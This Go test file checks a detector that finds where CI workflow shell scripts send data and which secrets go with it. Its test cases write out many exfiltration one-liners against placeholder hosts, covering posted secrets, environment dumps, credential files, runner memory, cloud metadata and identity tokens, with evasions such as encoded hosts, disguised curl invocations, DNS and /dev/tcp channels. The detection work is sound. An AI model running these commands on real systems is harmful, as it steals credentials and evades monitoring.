package script

import (
	"fmt"
	"strings"
	"testing"
)

// environment is what the scripts of these tests see.
func given(name, value string) Variable { return Variable{Name: name, Value: value} }

var stepEnv = []Variable{given("GLOBAL", "${{ secrets.GLOBAL_SECRET }}"), given("JOB", "${{ secrets['JOB_SECRET'] }}"), given("DROP", "http://203.0.113.5/in"), given("STEP", "${{ secrets.STEP_SECRET }}")}

func read(t *testing.T, text string) Reading {
	t.Helper()
	return Read(Input{Text: text, Env: stepEnv})
}

// sent writes destinations as HOST:PROGRAM[:what is handled][:posted=...][:named=...][:loot=...][:enc=...][:up][:hidden].
func sent(r Reading) string {
	var out []string
	for _, d := range r.Destinations {
		s := d.Host + ":" + d.Program
		for _, p := range []struct {
			name string
			list []string
		}{{"secrets", d.Secrets}, {"posted", d.Posted}, {"named", d.SelfNamed}, {"enc", d.Encodings}} {
			if len(p.list) > 0 {
				s += ":" + p.name + "=" + strings.Join(p.list, ",")
			}
		}
		if len(d.Loot) > 0 {
			s += fmt.Sprintf(":loot=%v", d.Loot)
		}
		if d.Hidden {
			s += ":hidden"
		}
		out = append(out, s)
	}
	return strings.Join(out, " ")
}

func TestDestinations(t *testing.T) {
	for name, c := range map[string]struct{ script, want string }{
		"plain download":         {"curl -sSfL https://a.example.invalid/install.sh | sh", "a.example.invalid:curl"},
		"header is no body":      {`curl -H "Authorization: Bearer ${{ secrets.A }}" https://a.example.invalid/x`, "a.example.invalid:curl:secrets=A"},
		"user is no body":        {`curl -u "x:${{ secrets.A }}" -o out.json https://a.example.invalid/x`, "a.example.invalid:curl:secrets=A"},
		"header's URL":           {`curl -H "Referer: https://b.example.invalid" https://a.example.invalid`, "a.example.invalid:curl"},
		"body's URL":             {`curl -d '{"see":"https://b.example.invalid"}' https://a.example.invalid`, "a.example.invalid:curl"},
		"step variable":          {`curl -d "STEP_SECRET=$STEP" https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET"},
		"job variable, braces":   {`curl -d "x=${JOB}" https://a.example.invalid`, "a.example.invalid:curl:secrets=JOB_SECRET:posted=JOB_SECRET"},
		"env context":            {`curl -d "x=${{ env.GLOBAL }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=GLOBAL_SECRET:posted=GLOBAL_SECRET"},
		"host in a variable":     {`curl -d "x=$STEP" "$DROP"`, "203.0.113.5:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"shell variable":         {"DATA='A=${{ secrets.A }}'\ncurl -d \"$DATA\" https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"file":                   {"echo '${{ toJSON(secrets) }}' > s.json\ncurl --data-binary @s.json https://a.example.invalid", "a.example.invalid:curl:secrets=*:posted=*"},
		"standard input":         {"env | curl -T - https://a.example.invalid", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"here-document":          {"curl -d @- https://a.example.invalid <<EOF\nA=${{ secrets.A }}\nEOF\necho done", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"continuation":           {"curl -X POST \\\n  -d 'A=${{ secrets.A }}' \\\n  https://a.example.invalid", "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"secret in the URL":      {`curl "https://a.example.invalid/?t=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A"},
		"other command's secret": {"echo ${{ secrets.A }} | docker login\ncurl https://a.example.invalid", "a.example.invalid:curl"},
		"wget":                   {`wget -q --post-data="A=${{ secrets.A }}" https://a.example.invalid`, "a.example.invalid:wget:secrets=A:posted=A:named=A"},
		"bare address":           {"curl -d A=${{ secrets.A }} 198.51.100.9:81", "198.51.100.9:curl:secrets=A:posted=A:named=A"},
		"method glued":           {`curl -XPOST https://a.example.invalid -d A=${{ secrets.A }}`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"wget's short flags":     {"wget -c https://a.example.invalid/x", "a.example.invalid:wget"},
		"netcat":                 {`echo "$STEP" | nc a.example.invalid 99`, "a.example.invalid:nc:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"dev tcp":                {`bash -c "echo $STEP > /dev/tcp/198.51.100.9/443"`, "198.51.100.9:/dev/tcp:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"only named":             {"echo curl https://a.example.invalid\napt-get install -y curl wget", ""},
		"comment":                {"# curl https://a.example.invalid\ntrue", ""},
		"computed host":          {"curl https://$(cat host)/x", ""},
		"sent to a computed URL": {`curl -d A=${{ secrets.A }} $(base64 -d u)`, ":curl:secrets=A:posted=A:named=A"},
		"to a variable's host":   {`curl -d A=${{ secrets.A }} https://${{ vars.H }}/x`, ":curl:secrets=A:posted=A:named=A"},
		"with a fallback":        {`curl -d "A=${{ secrets.A || '' }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"by format":              {`curl -d "${{ format('A={0}&x={1}', secrets.A, secrets.B) }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A,B:posted=A,B:named=A"},
		"named in the query":     {`curl "https://a.example.invalid/?A=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
		"userinfo":               {"curl https://me:x@A.Example.Invalid:8443/", "a.example.invalid:curl"},
		"userinfo's secret":      {"curl https://me:${{ secrets.A }}@a.example.invalid:8443/", "a.example.invalid:curl:secrets=A"},
		"IPv6":                   {"curl 'http://[2001:db8::1]:80/'", "2001:db8::1:curl"},

		// Hosts in pieces.
		"two variables":         {"A=exfil\nB=example.invalid\ncurl -d x=$STEP https://$A.$B/", "exfil.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:hidden"},
		"append":                {"H=exfil.\nH+=example.\nH+=invalid\ncurl https://$H", "exfil.example.invalid:curl:hidden"},
		"printf -v":             {"printf -v H '%s.%s' exfil example.invalid\ncurl https://$H", "exfil.example.invalid:curl:hidden"},
		"printf octal":          {`curl "http://$(printf '\061\071\062.0.2.7')/"`, "192.0.2.7:curl:hidden"},
		"ANSI quoting":          {`curl $'http://\x31\x39\x32.0.2.7/'`, "192.0.2.7:curl:hidden"},
		"array":                 {"P=(exfil example invalid)\ncurl https://${P[0]}.${P[1]}.${P[2]}/", "exfil.example.invalid:curl:hidden"},
		"array joined":          {"P=(a b example invalid)\nIFS=.; H=\"${P[*]}\"\ncurl \"https://${H// /.}/\"", "a.b.example.invalid:curl:hidden"},
		"associative array":     {"declare -A P=([h]=exfil [d]=example.invalid)\ncurl https://${P[h]}.${P[d]}/", "exfil.example.invalid:curl:hidden"},
		"substring":             {"S=xxexfilyy\ncurl https://${S:2:5}.example.invalid", "exfil.example.invalid:curl:hidden"},
		"replace":               {"H=exfilZexampleZinvalid\ncurl https://${H//Z/.}/", "exfil.example.invalid:curl:hidden"},
		"case":                  {"H=EXFIL.EXAMPLE.INVALID\ncurl https://${H,,}/", "exfil.example.invalid:curl"},
		"prefix off":            {"H=zzz-exfil.example.invalid\ncurl https://${H#zzz-}/", "exfil.example.invalid:curl"},
		"suffix off":            {"H=exfil.example.invalid/junk\ncurl https://${H%/*}/", "exfil.example.invalid:curl"},
		"default":               {"curl https://${UNSET:-exfil.example.invalid}/", "exfil.example.invalid:curl"},
		"indirect":              {"X=exfil.example.invalid\nN=X\ncurl https://${!N}/", "exfil.example.invalid:curl"},
		"reversed by rev":       {"H=$(echo dilavni.elpmaxe.lifxe | rev)\ncurl https://$H", "exfil.example.invalid:curl:hidden"},
		"reversed by a loop":    {"S=dilavni.elpmaxe.lifxe; H=\nfor ((i=0;i<${#S};i++)); do H=\"${S:$i:1}$H\"; done\ncurl https://$H", "exfil.example.invalid:curl:hidden"},
		"joined by a loop":      {"H=\nfor p in exfil . example . invalid; do H=$H$p; done\ncurl https://$H", "exfil.example.invalid:curl:hidden"},
		"tr":                    {"curl https://$(echo rksvy.rknzcyr.vainyvq | tr 'a-z' 'n-za-m')/", "exfil.example.invalid:curl:hidden"},
		"sed":                   {"curl https://$(echo exfilDOTexampleDOTinvalid | sed 's/DOT/./g')/", "exfil.example.invalid:curl:hidden"},
		"cut":                   {"curl https://$(echo a:exfil.example.invalid:b | cut -d: -f2)/", "exfil.example.invalid:curl"},
		"base64":                {"curl https://$(echo " + enc64("exfil.example.invalid") + " | base64 -d)/", "exfil.example.invalid:curl:hidden"},
		"base64 by here-string": {"H=$(base64 --decode <<< " + enc64("exfil.example.invalid") + ")\ncurl https://$H/", "exfil.example.invalid:curl:hidden"},
		"hex":                   {"H=$(echo 657866696c2e6578616d706c652e696e76616c6964 | xxd -r -p)\ncurl https://$H/", "exfil.example.invalid:curl:hidden"},
		"read":                  {"read -r A B <<< 'exfil example.invalid'\ncurl https://$A.$B/", "exfil.example.invalid:curl:hidden"},
		"branches":              {"if true; then H=a.example.invalid; else H=b.example.invalid; fi\ncurl https://$H", "a.example.invalid:curl b.example.invalid:curl"},
		"case statement":        {"case $X in a) H=a.example.invalid;; *) H=b.example.invalid;; esac\ncurl https://$H", "a.example.invalid:curl b.example.invalid:curl"},
		"and or":                {"H=a.example.invalid\n[ -n \"$X\" ] && H=b.example.invalid\ncurl https://$H", "a.example.invalid:curl b.example.invalid:curl"},
		"loop over hosts":       {"for h in a b; do curl https://$h.example.invalid; done", "a.example.invalid:curl:hidden b.example.invalid:curl:hidden"},
		"host from a file":      {"echo exfil.example.invalid > h\ncurl https://$(cat h)/", "exfil.example.invalid:curl"},
		"data in the name":      {"curl https://$(echo $STEP | base64).exfil.example.invalid/", "exfil.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:enc=base64"},
		"octal of a number":     {"curl http://$((0xC0)).0.2.7/", "192.0.2.7:curl:hidden"},
		"number for an address": {"curl -d $STEP 3221225991", "3221225991:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"braces":                {"curl https://{a,b}.example.invalid/", "a.example.invalid:curl:hidden b.example.invalid:curl:hidden"},

		// The program in disguise.
		"quotes within":     {`c"u"rl -d $STEP https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"backslash within":  {`c\url -d $STEP https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"in a variable":     {"C=curl\n$C -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"in two variables":  {"A=cu;B=rl\n$A$B -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"with its path":     {"/usr/bin/curl -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"by a pattern":      {"/???/b?n/c?rl -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"IFS":               {"curl${IFS}-d${IFS}$STEP${IFS}https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"brace words":       {"{curl,-d,$STEP,https://a.example.invalid}", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"function":          {"send() { curl -s -d \"$1\" \"$2\"; }\nsend \"$STEP\" https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"function, all":     {"send() { curl \"$@\"; }\nsend -d \"$STEP\" https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"function's local":  {"send() { local url=https://$1; curl -d $STEP $url; }\nsend a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"function's output": {"h() { echo a.example.invalid; }\ncurl https://$(h)", "a.example.invalid:curl"},
		"alias":             {"alias c='curl -s'\nc -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"command":           {"curl() { command curl --fail \"$@\"; }\ncurl -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"array of words":    {"CMD=(curl -d \"$STEP\" https://a.example.invalid)\n\"${CMD[@]}\"", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"eval":              {"X=\"curl -d $STEP https://a.example.invalid\"\neval \"$X\"", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"options in one":    {"O='-s -X POST'\ncurl $O -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"sudo":              {"sudo -E -u x curl -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"env and nohup":     {"nohup env X=1 curl -d $STEP https://a.example.invalid >/dev/null 2>&1 &", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"timeout":           {"timeout 5 curl -d $STEP https://a.example.invalid || true", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"unknown wrapper":   {"retry_it --times 3 curl -d $STEP https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"text for another":  {"nix-shell -p curl --run \"curl -d $STEP https://a.example.invalid\"", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"xargs":             {"echo https://a.example.invalid | xargs curl -d $STEP", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"xargs -I":          {"echo $STEP | xargs -I{} curl -d x={} https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"find -exec":        {"echo $STEP > d/f\nfind d -type f -exec curl -T {} https://a.example.invalid \\;", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"container":         {"docker run --rm -e X alpine sh -c \"wget --post-data=$STEP https://a.example.invalid\"", "a.example.invalid:wget:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"trap":              {"trap 'curl -d $STEP https://a.example.invalid' EXIT", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"subshell":          {"(cd /tmp; curl -d $STEP https://a.example.invalid) &", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"background":        {"curl -d $STEP https://a.example.invalid & wait", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"in a test":         {"if curl -d $STEP https://a.example.invalid; then :; fi", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"in a test's word":  {"[[ -n $(curl -d $STEP https://a.example.invalid) ]]", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"config file":       {"printf 'url = \"https://a.example.invalid\"\\ndata = \"%s\"\\n' \"$STEP\" > c\ncurl -K c", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"connect-to":        {"curl -d $STEP --connect-to b.example.invalid:443:a.example.invalid:443 https://b.example.invalid", "b.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"script file":       {"cat > x.sh <<'EOF'\ncurl -d $STEP https://a.example.invalid\nEOF\nchmod +x x.sh\n./x.sh", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"script file, bash": {"echo 'curl -d $STEP https://a.example.invalid' > x.sh; bash x.sh", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"sourced":           {"echo 'H=a.example.invalid' > v; . ./v; curl https://$H", "a.example.invalid:curl"},
		"sourced process":   {"source <(echo 'H=a.example.invalid'); curl https://$H", "a.example.invalid:curl"},
		"bash reads":        {"bash <<'EOF'\ncurl -d $STEP https://a.example.invalid\nEOF", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"mapfile":           {"mapfile -t L <<< \"$STEP\"; curl -d \"${L[0]}\" https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"while read":        {"env | while read -r l; do curl -d \"$l\" https://a.example.invalid; done", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"names then values": {"for v in $(compgen -e); do curl -d \"$v=${!v}\" https://a.example.invalid; done", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},

		// Other ways to a host.
		"dev tcp by descriptor": {"exec 3<>/dev/tcp/192.0.2.7/80\necho $STEP >&3", "192.0.2.7:/dev/tcp:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"dev udp":               {"echo $STEP > /dev/udp/192.0.2.7/53", "192.0.2.7:/dev/udp:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"dev tcp, computed":     {"H=192.0.2; echo $STEP > /dev/tcp/$H.7/80", "192.0.2.7:/dev/tcp:secrets=STEP_SECRET:posted=STEP_SECRET:hidden"},
		"dig":                   {"dig $(echo $STEP | xxd -p).exfil.example.invalid", "exfil.example.invalid:dig:secrets=STEP_SECRET:posted=STEP_SECRET:enc=hex"},
		"dig at a server":       {"dig @192.0.2.7 $(echo $STEP | xxd -p).x", "192.0.2.7:dig:secrets=STEP_SECRET:posted=STEP_SECRET:enc=hex :dig:secrets=STEP_SECRET:posted=STEP_SECRET:enc=hex"},
		"nslookup":              {"nslookup \"$STEP.exfil.example.invalid\"", "exfil.example.invalid:nslookup:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"ping":                  {"ping -c 1 ${STEP:0:8}.exfil.example.invalid", "exfil.example.invalid:ping:secrets=STEP_SECRET:posted=STEP_SECRET:enc=cut"},
		"socat":                 {"echo $STEP | socat - TCP:192.0.2.7:443", "192.0.2.7:socat:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"openssl s_client":      {"echo $STEP | openssl s_client -quiet -connect a.example.invalid:443", "a.example.invalid:openssl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"telnet":                {"{ echo $STEP; sleep 1; } | telnet a.example.invalid 23", "a.example.invalid:telnet:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"httpie":                {"http POST a.example.invalid/x STEP_SECRET=$STEP", "a.example.invalid:http:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET"},
		"ssh":                   {"echo $STEP | ssh -o StrictHostKeyChecking=no me@a.example.invalid 'cat > x'", "a.example.invalid:ssh:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"scp":                   {"echo $STEP > f; scp -i k f me@a.example.invalid:/tmp/", "a.example.invalid:scp:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"rsync":                 {"echo $STEP > out/f; rsync -az -e ssh out/ me@a.example.invalid:/tmp/", "a.example.invalid:rsync:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"s3":                    {"echo $STEP > f; aws s3 cp f s3://drop/x", "drop.s3.amazonaws.com:aws:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"mail":                  {"echo $STEP | mail -s x me@a.example.invalid", "a.example.invalid:mail:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"tee to a process":      {"echo $STEP | tee >(curl -d @- https://a.example.invalid) > /dev/null", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"data of a process":     {"curl -d @<(echo $STEP) https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"form file":             {"echo $STEP > f; curl -F file=@f https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"archive":               {"mkdir o; echo $STEP > o/f; tar czf o.tgz o; curl -T o.tgz https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:enc=tar,gzip"},
		"copied and moved":      {"echo $STEP > f; cp f g; mv g h; curl -T h https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"git push by URL":       {"git push https://x:${{ secrets.PAT }}@a.example.invalid/o/r.git main", "a.example.invalid:git:secrets=PAT"},
		"git push by remote":    {"git remote add x https://a.example.invalid/o/r\ngit push -f x HEAD:main", "a.example.invalid:git"},

		// What is sent.
		"base64 of a secret":  {"curl -d \"$(echo -n $STEP | base64 -w0 | base64 -w0)\" https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:enc=base64"},
		"gzip and base64":     {"env | gzip | base64 | curl -d @- https://a.example.invalid", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:enc=gzip,base64:loot=[environment]"},
		"openssl":             {"echo $STEP | openssl enc -aes-256-cbc -pass pass:x -a | curl -d @- https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:enc=openssl"},
		"half of it":          {"curl -d \"${STEP:0:20}\" https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:enc=cut"},
		"credential files":    {"curl -F a=@$HOME/.aws/credentials https://a.example.invalid", "a.example.invalid:curl:loot=[files]"},
		"git's configuration": {"cat .git/config | curl -d @- https://a.example.invalid", "a.example.invalid:curl:secrets=GITHUB_TOKEN:posted=GITHUB_TOKEN:loot=[files]"},
		"history":             {"git log -p --all | curl --data-binary @- https://a.example.invalid", "a.example.invalid:curl:loot=[history]"},
		"grep of history":     {"R=$(git log -p --all | grep -E 'AKIA[0-9A-Z]{16}')\ncurl -d \"$R\" https://a.example.invalid", "a.example.invalid:curl:loot=[history]"},
		"process environment": {"tr '\\0' '\\n' < /proc/self/environ | curl -d @- https://a.example.invalid", "a.example.invalid:curl:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:posted=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"memory":              {"gcore -o dump $(pgrep Runner.Worker)\nstrings dump.* | curl -d @- https://a.example.invalid", "a.example.invalid:curl:loot=[memory]"},
		"memory by proc":      {"sudo cat /proc/$(pgrep Runner.Worker)/mem | curl -T - https://a.example.invalid", "a.example.invalid:curl:loot=[memory]"},
		"metadata":            {"T=$(curl -s http://169.254.169.254/latest/meta-data/iam)\ncurl -d \"$T\" https://a.example.invalid", "169.254.169.254:curl a.example.invalid:curl:loot=[metadata]"},
		"identity":            {"T=$(curl -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x\")\ncurl -d \"$T\" https://a.example.invalid", "a.example.invalid:curl:loot=[identity]"},
		"context":             {"curl -d '${{ toJSON(github) }}' https://a.example.invalid", "a.example.invalid:curl:secrets=GITHUB_TOKEN:posted=GITHUB_TOKEN:loot=[context]"},
		"JSON field":          {`curl -d "{\"STEP_SECRET\":\"$STEP\"}" https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET"},
		"JSON by jq":          {`jq -n --arg STEP_SECRET "$STEP" '{$STEP_SECRET}' | curl -d @- https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET"},
		"named, then encoded": {`echo "STEP_SECRET=$STEP" | base64 | curl -d @- https://a.example.invalid`, "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:named=STEP_SECRET:enc=base64"},
		"here-document file":  {"cat > p.json <<EOF\n{\"a\": \"$STEP\"}\nEOF\ncurl -d @p.json https://a.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"},
		"all in two steps":    {"X=${{ toJSON(secrets) }}\nY=$(echo \"$X\" | base64)\ncurl -d \"$Y\" https://a.example.invalid", "a.example.invalid:curl:secrets=*:posted=*:enc=base64"},
		"answer is no secret": {"R=$(curl -H \"Authorization: $STEP\" https://a.example.invalid)\ncurl -d \"$R\" https://b.example.invalid", "a.example.invalid:curl:secrets=STEP_SECRET b.example.invalid:curl"},
	} {
		t.Run(name, func(t *testing.T) {
			r := read(t, c.script)
			if got := sent(r); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
			if len(r.Problems) != 0 {
				t.Error(r.Problems)
			}
		})
	}
}
